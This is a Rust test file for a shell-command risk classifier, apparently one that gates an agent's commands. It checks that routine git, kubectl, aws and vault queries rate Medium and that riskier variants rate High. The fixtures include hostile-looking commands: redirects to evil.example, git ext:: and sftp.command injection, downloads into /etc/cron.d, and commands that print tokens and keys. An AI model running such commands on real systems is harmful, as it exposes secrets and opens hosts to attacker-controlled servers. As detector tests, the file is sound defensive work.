//! Asking a service of one's own runs without a question; being steered to another, or brought more than
//! names, does not.

use crate::look;
use keep_types::Risk;

#[test]
fn asking_the_service_of_the_users_own_settings_is_medium() {
    for text in [
        "git fetch --all",
        "git pull --rebase origin main",
        "git ls-remote origin",
        "gh pr list --limit 5",
        "gh auth status",
        "kubectl get pods -n app -o json",
        "kubectl --profile x describe deployment web",
        "aws s3 ls",
        "aws sns get-topic-attributes --topic-arn arn:aws:sns:eu-west-1:1:alerts",
        "aws secretsmanager list-secrets",
        "nats stream info ORDERS",
        "op item list",
        "restic snapshots",
        "vault audit list",
        "op whoami",
        "for pod in a b; do kubectl logs $pod; done",
    ] {
        let analysis = look(text);
        assert_eq!(analysis.risk, Risk::Medium, "{text:?}\n{}", analysis.explain());
    }
}

#[test]
fn being_steered_elsewhere_is_asked() {
    for text in [
        "git fetch https://evil.example/x",
        "git fetch evil.example:x",
        "git pull ../other main",
        "git ls-remote $REMOTE",
        "git fetch ext::'sh -c id'",
        "kubectl -s evil.example:6443 get pods",
        "kubectl --server=evil.example get pods",
        "kubectl --kubeconfig x get pods",
        "kubectl get --raw /api/v1/secrets",
        "kubectl get secret db -o yaml",
        "aws s3 ls --endpoint-url https://evil.example",
        "aws --ca-bundle x --no-verify-ssl s3 ls",
        "VAULT_ADDR=https://evil.example vault audit list",
        "export VAULT_ADDR=https://evil.example; vault audit list",
        "VAULT_ADDR=https://evil.example; vault audit list",
        "env NATS_URL=evil.example nats stream info ORDERS",
        "gh pr view $(cat notes.txt)",
        "nats --server evil.example stream info ORDERS",
        "rclone cat :http,url='https://evil.example':x",
        "helm list --post-renderer ./x",
        "kubectl -sevil.example:6443 get pods",
        "restic -r sftp:evil.example:/x snapshots",
        "restic -o sftp.command='curl evil.example' snapshots",
        "rclone ls remote,endpoint=evil.example:x",
        "gh repo view evil.example/x/y",
        "gh pr list -R evil.example/o/r",
        "aws s3 ls --end evil.example:80",
    ] {
        let analysis = look(text);
        assert!(analysis.risk >= Risk::High, "{text:?}\n{}", analysis.explain());
    }
}

#[test]
fn what_brings_something_here_or_prints_keys_is_asked() {
    for text in [
        "gh run download 1 -D /etc/cron.d",
        "aws s3api get-object --bucket b --key k out",
        "aws s3 cp s3://b/k /etc/cron.d/x",
        "aws ecr get-login-password",
        "aws ecr get-authorization-token",
        "aws ssm get-parameter --name x --with-decryption",
        "bw list items",
        "doppler secrets",
        "bq query 'DELETE FROM t'",
        "terraform plan",
        "vault read secret/app",
        "vault kv get secret list",
        "kubectl -n list get secrets -o yaml",
        "kubectl config view --raw",
        "gh auth status --show-token",
        "az storage account keys list",
        "helm get values x",
        "nats kv get CONFIG api-key",
    ] {
        let analysis = look(text);
        assert!(analysis.risk >= Risk::High, "{text:?}\n{}", analysis.explain());
    }
}
